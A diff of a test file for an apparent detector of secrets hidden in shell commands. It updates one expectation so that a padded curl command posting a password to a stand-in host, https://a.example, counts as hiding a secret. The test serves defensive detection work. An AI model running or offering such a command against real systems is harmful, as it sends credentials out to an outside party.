@@ -305,7 +305,7 @@ describe("a cut value that nothing runs leaves the ask to the reviewer", () => {
     const chain = Array.from({ length: 2_000 }, (_, at) => `a${at}=$a${at + 1}`).join(";");
     expect(hides(`${chain};token=${KEY}`)).toBe(true);
     expect(hides(`[ ${"a".repeat(30_000)} - ]; token=${KEY}`)).toBe(false);
-    expect(hides(`curl -d '${"a".repeat(30_000)} {password: ${KEY}}' https://a.example`)).toBe(false);
+    expect(hides(`curl -d '${"a".repeat(30_000)} {password: ${KEY}}' https://a.example`)).toBe(true);
   });
   test("without a secret nothing is parsed at all", () => expect(hidesCode("echo 'never closed", [])).toBe(false));
 });
